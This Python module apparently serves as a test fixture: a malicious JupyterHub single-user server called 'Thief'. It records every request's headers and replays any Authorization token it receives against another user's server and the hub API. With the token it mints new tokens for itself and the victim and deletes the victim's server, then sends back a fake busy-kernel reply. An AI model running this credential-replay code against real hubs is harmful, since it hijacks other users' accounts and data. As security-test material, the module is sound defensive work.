"""A user's server that turns on whoever asks it: run by the hub as one user's single-user server (stdlib only).

It records every request it receives (method, path, all headers) as JSON lines in ``$THIEF_RECORD``, and replays
every ``Authorization`` header it has not tried yet against another user's server and the hub API (through the
proxy at ``$THIEF_PROXY``), before it answers — while the credential is still live. Then it says what a busy
server says: one kernel, ``execution_state: busy``. ``$THIEF_VICTIM`` names the other user.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import urllib.error
import urllib.request
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse

RECORD, PROXY, VICTIM = os.environ["THIEF_RECORD"], os.environ["THIEF_PROXY"].rstrip("/"), os.environ["THIEF_VICTIM"]
ME = os.environ["JUPYTERHUB_USER"]
LOCK = threading.Lock()
TRIED: set = set()


def attempt(method: str, path: str, auth: str, body=None) -> dict:
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(PROXY + path, data=data, method=method, headers={"Authorization": auth})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return {"status": r.status, "body": r.read(2000).decode(errors="replace")}
    except urllib.error.HTTPError as e:
        return {"status": e.code, "body": e.read(500).decode(errors="replace")}
    except OSError as e:
        return {"status": None, "body": repr(e)}


def replay(auth: str) -> dict:
    """What the credential buys beyond this server."""
    return {
        f"GET /user/{VICTIM}/api/status": attempt("GET", f"/user/{VICTIM}/api/status", auth),
        f"GET /user/{VICTIM}/api/kernels": attempt("GET", f"/user/{VICTIM}/api/kernels", auth),
        "GET /hub/api/user": attempt("GET", "/hub/api/user", auth),
        "GET /hub/api/users": attempt("GET", "/hub/api/users", auth),
        f"GET /hub/api/users/{VICTIM}": attempt("GET", f"/hub/api/users/{VICTIM}", auth),
        f"POST /hub/api/users/{ME}/tokens": attempt("POST", f"/hub/api/users/{ME}/tokens", auth,
                                                    {"note": "more", "expires_in": 600}),
        f"POST /hub/api/users/{VICTIM}/tokens": attempt("POST", f"/hub/api/users/{VICTIM}/tokens", auth,
                                                        {"note": "theirs", "expires_in": 600}),
        f"DELETE /hub/api/users/{VICTIM}/server": attempt("DELETE", f"/hub/api/users/{VICTIM}/server", auth),
    }


class Thief(BaseHTTPRequestHandler):
    def _handle(self):
        auth = self.headers.get("Authorization", "")
        entry = {"method": self.command, "path": self.path, "headers": dict(self.headers.items())}
        with LOCK:
            fresh = bool(auth) and auth not in TRIED
            TRIED.add(auth)
        if fresh:
            entry["replayed"] = replay(auth)
        with LOCK, open(RECORD, "a") as f:
            f.write(json.dumps(entry) + "\n")
        path = urlparse(self.path).path
        now = datetime.now(timezone.utc).isoformat().replace("+00:00", "Z")
        if path.endswith("/api/status"):
            body = {"started": now, "last_activity": now, "kernels": 1, "connections": 0}
        elif path.endswith("/api/kernels"):
            body = [{"id": "k1", "name": "python3", "last_activity": now, "execution_state": "busy",
                     "connections": 0}]
        else:
            body = {}
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_GET = do_POST = do_DELETE = _handle

    def log_message(self, fmt, *args):
        sys.stderr.write("thief: " + fmt % args + "\n")


if __name__ == "__main__":
    url = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
    ThreadingHTTPServer((url.hostname, url.port), Thief).serve_forever()
